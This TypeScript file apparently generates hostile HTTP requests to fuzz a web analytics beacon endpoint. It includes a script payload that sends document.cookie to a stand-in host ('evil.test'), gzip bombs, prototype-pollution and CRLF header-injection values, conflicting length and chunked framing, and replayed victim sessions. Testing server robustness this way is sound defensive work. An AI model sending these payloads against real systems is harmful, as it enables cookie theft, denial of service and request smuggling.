import { gzipSync } from 'node:zlib'
import { broken, mutated, rawText } from './hostile-bodies.ts'
import { http, mayClose, whole, type HostileRequest } from './hostile-requests.ts'
import type { Random } from '../../../benchmarks/support/random.mjs'

/** What an attacker has: the page's contents, and guesses about others. */
export interface BeaconTargets {
  readonly beaconKey: string
  /** Has no business in a page. */
  readonly apiKey: string
  readonly victims: readonly Victim[]
}

/** Somebody known to the attacker by name. */
export interface Victim {
  readonly user: string
  readonly session: string
  readonly ip: string
}

type Make = (random: Random, targets: BeaconTargets) => HostileRequest

const SCRIPT = '<script>fetch("//evil.test?"+document.cookie)</script>'
const LONE = '\ud83d'

/** Ids an attacker sends again and again. */
const REPLAYED_IDS = 50

const hex = (random: Random, digits: number): string =>
  Array.from({ length: digits }, () => random.below(16).toString(16)).join('')

/** A beacon without fault, in the name of a victim. */
function claimed(random: Random, { beaconKey, victims }: BeaconTargets): Record<string, unknown> {
  const { user, session } = random.pick(victims)
  return {
    key: beaconKey,
    id: hex(random, 32),
    user,
    session,
    visitor: hex(random, 36),
    domain: 'shop.test',
    pages: [{ url: 'https://www.shop.test/', title: 'Shop', referrer: '', agoMs: 5 }],
    device: {
      'agent.userAgent': `Mozilla/5.0 ${hex(random, 8)}`,
      'screen.width': random.below(4_000),
      'automation.webdriver': random.chance(0.5),
      'fonts.installed': ['Arial', 'Ubuntu'],
    },
    behavior: { keys: random.below(99), keyMeanMs: random.next() * 300 },
  }
}

/** The post of a body, from one of the victims' addresses, framed as it should be. */
function post(
  { victims }: BeaconTargets,
  random: Random,
  body: Buffer | string,
  headers: readonly string[] = [],
): Buffer {
  const bytes = Buffer.from(body)
  const { ip } = random.pick(victims)
  const own = [
    'Content-Type: text/plain',
    `Content-Length: ${bytes.length}`,
    `X-Forwarded-For: ${ip}`,
  ]
  return http({ path: '/v1/beacon', body: bytes, headers: [...own, ...headers] })
}

const posted =
  (family: string, body: (random: Random, targets: BeaconTargets) => unknown): Make =>
  (random, targets) => {
    const made = body(random, targets)
    const text = typeof made === 'string' || Buffer.isBuffer(made) ? made : JSON.stringify(made)
    return whole(family, post(targets, random, text))
  }

const scripted = (random: Random, targets: BeaconTargets) => ({
  ...claimed(random, targets),
  user: SCRIPT,
  session: `${random.pick(targets.victims).session}${SCRIPT}`,
  visitor: SCRIPT,
  domain: SCRIPT,
  pages: [{ url: `javascript:${SCRIPT}`, title: SCRIPT, referrer: SCRIPT, agoMs: SCRIPT }],
  device: { [SCRIPT]: SCRIPT, 'agent.userAgent': SCRIPT, 'fonts.installed': [SCRIPT] },
  behavior: { [SCRIPT]: 1, keys: SCRIPT },
})

const replayed = (random: Random, targets: BeaconTargets) => ({
  ...claimed(random, targets),
  id: `replayed-${random.below(REPLAYED_IDS)}`,
})

function oversized(random: Random, targets: BeaconTargets): unknown {
  const many = (count: number, value: unknown) =>
    Object.fromEntries(Array.from({ length: count }, (_, n) => [`name${n}`, value]))
  return {
    ...claimed(random, targets),
    ...random.pick<object>([
      { user: 'u'.repeat(20_000) },
      { device: many(2_000, 1) },
      { device: { list: Array.from({ length: 9_000 }, () => 1) } },
      { pages: Array.from({ length: 5_000 }, () => ({})) },
      { pages: [{ url: 'u'.repeat(31_000) }] },
      { behavior: many(1_500, 1e308) },
      { device: { long: 'x'.repeat(40_000) } },
      { filler: 'x'.repeat(random.below(200_000)) },
    ]),
  }
}

function halved(random: Random, targets: BeaconTargets): unknown {
  const half = random.pick([LONE, '\udc00\ud800', `a${LONE}b`, '\u0000', '\u202e', '\uffff'])
  const { session } = random.pick(targets.victims)
  return {
    ...claimed(random, targets),
    ...random.pick<object>([
      { user: half },
      { session: session + half },
      { pages: [{ url: half, title: half, referrer: half, agoMs: 1 }] },
      { device: { [`n${half}`]: half, 'screen.width': half, list: [half, half] } },
      { domain: half },
      { id: half },
    ]),
  }
}

function deep(random: Random, targets: BeaconTargets): string {
  const depth = random.pick([5, 19, 30, 3_000, 10_000])
  const [open, close] = random.pick([
    ['[', ']'],
    ['{"a":', '}'],
  ] as const)
  const value = `${open.repeat(depth)}1${close.repeat(depth)}`
  const text = JSON.stringify({ ...claimed(random, targets), device: 0 })
  return text.replace('"device":0', `"device":{"deep":${value}},"__proto__":{"isAdmin":true}`)
}

function misused(random: Random, targets: BeaconTargets): unknown {
  const key = random.pick<unknown>([
    'wrong',
    targets.apiKey,
    7,
    null,
    {},
    ['k'],
    '\u0000',
    'k'.repeat(5_000),
  ])
  return { ...claimed(random, targets), key }
}

/** Little bodies that unfold to much: blanks, and a bomb within a bomb. */
const BOMBS: readonly (readonly [Buffer, string])[] = [40_000, 2_000_000, 20_000_000].flatMap(
  (size) => {
    const bomb = gzipSync(Buffer.alloc(size, 0x20), { level: 1 })
    return [
      [bomb, 'gzip'],
      [gzipSync(bomb), 'gzip, gzip'],
    ] as const
  },
)

/** Bodies that unfold, or do not. */
function packed(random: Random, targets: BeaconTargets): HostileRequest {
  const text = Buffer.from(JSON.stringify(claimed(random, targets)))
  const [body, encoding] = random.pick<readonly [Buffer, string]>([
    random.pick(BOMBS),
    random.pick(BOMBS),
    [gzipSync(text), 'gzip'],
    [gzipSync(text).subarray(0, 60), 'gzip'],
    [text, 'gzip'],
    [text, 'br'],
    [text, 'deflate'],
  ])
  return whole('packed', post(targets, random, body, [`Content-Encoding: ${encoding}`]))
}

/** Headers that want to be in the answer. */
function injected(random: Random, targets: BeaconTargets): HostileRequest {
  const body = JSON.stringify({
    ...claimed(random, targets),
    visitor: random.pick([hex(random, 20), 'x; Domain=bank.test', 'a\r\nSet-Cookie: b=1']),
    domain: random.pick(['winnow', 'winnow; HttpOnly', 'winnow\r\nX-Evil: 1', '.']),
  })
  const origin = random.pick([
    'Origin: http://winnow',
    'Origin: null',
    'Origin: javascript:alert(1)',
    'Origin: http://winnow\u0009X-Evil: 1',
    'Referer: http://[::1',
    `Origin: http://${'o'.repeat(4_000)}`,
  ])
  const forwarded = random.pick([',,,', 'unknown', '::ffff:1.2.3.4', '1.1.1.1,'.repeat(400)])
  return whole('injected', post(targets, random, body, [origin, `X-Forwarded-For: ${forwarded}`]))
}

const METHODS = ['GET', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD', 'TRACE', 'PROPFIND']

function wrongMethod(random: Random, targets: BeaconTargets): HostileRequest {
  const method = random.pick(METHODS)
  const path = random.pick(['/v1/beacon', '/v1/beacon/', '/v1/beacon?x=%', '/i.gif', '/s.js'])
  const body = random.chance(0.5) ? JSON.stringify(claimed(random, targets)) : ''
  const headers = [`Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close']
  return mayClose('method', http({ method, path, body, headers }))
}

function picture(random: Random, { beaconKey, apiKey, victims }: BeaconTargets): HostileRequest {
  const { user, ip } = random.pick(victims)
  const key = random.pick([beaconKey, beaconKey, apiKey, 'wrong', '%00'])
  const rest = random.pick([
    `ui=${user}&S=${hex(random, 32)}&uu=${hex(random, 36)}&u=${encodeURIComponent(SCRIPT)}`,
    `ui=${user}&uu=${hex(random, 36)}&t=%FF%FE&u=%E0%A4%A`,
    `ui=${user}&uu=${hex(random, 36)}&uu=other&ui=other&r=${random.next()}`,
    `S=%ED%A0%80&uu=%&t=${'t'.repeat(8_000)}`,
    `uu=${hex(random, 36)}&__proto__=1&constructor=2&u=${'%2525'.repeat(500)}`,
    'x'.repeat(20_000),
  ])
  const headers = [`X-Forwarded-For: ${ip}`, `Referer: ${random.pick(['', 'x', 'http://a.test/'])}`]
  return mayClose('picture', http({ method: 'GET', path: `/i.gif?bk=${key}&${rest}`, headers }))
}

function misframed(random: Random, targets: BeaconTargets): HostileRequest {
  const body = JSON.stringify(claimed(random, targets))
  const headers = random.pick([
    ['Content-Length: 2000000000'],
    ['Content-Length: -5'],
    ['Content-Length: 5', 'Transfer-Encoding: chunked'],
    [`Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close', 'Expect: 100-continue'],
    ['Transfer-Encoding: chunked'],
  ])
  return mayClose('framing', http({ path: '/v1/beacon', body, headers }))
}

function cut(random: Random, targets: BeaconTargets): HostileRequest {
  const bytes = post(targets, random, JSON.stringify(claimed(random, targets)))
  const part = bytes.subarray(0, 1 + random.below(bytes.length - 1))
  return { ...whole('cut', part), end: 'cut' }
}

/** Families and how often each comes. */
const FAMILIES: readonly (readonly [number, Make])[] = [
  [20, posted('foreign', claimed)],
  [8, posted('replayed', replayed)],
  [8, posted('script', scripted)],
  [8, posted('oversized', oversized)],
  [8, posted('halved', halved)],
  [6, posted('deep', deep)],
  [6, posted('key', misused)],
  [10, posted('mutated', (random, targets) => mutated(random, claimed(random, targets)))],
  [5, posted('broken', broken)],
  [2, posted('raw', rawText)],
  [8, packed],
  [5, injected],
  [4, wrongMethod],
  [6, picture],
  [2, misframed],
  [2, cut],
]

const TOTAL = FAMILIES.reduce((sum, [weight]) => sum + weight, 0)

/** A beacon nobody should send. */
export function hostileBeacon(random: Random, targets: BeaconTargets): HostileRequest {
  let draw = random.below(TOTAL)
  for (const [weight, make] of FAMILIES) {
    if (draw < weight) return make(random, targets)
    draw -= weight
  }
  throw new RangeError('no family was drawn')
}
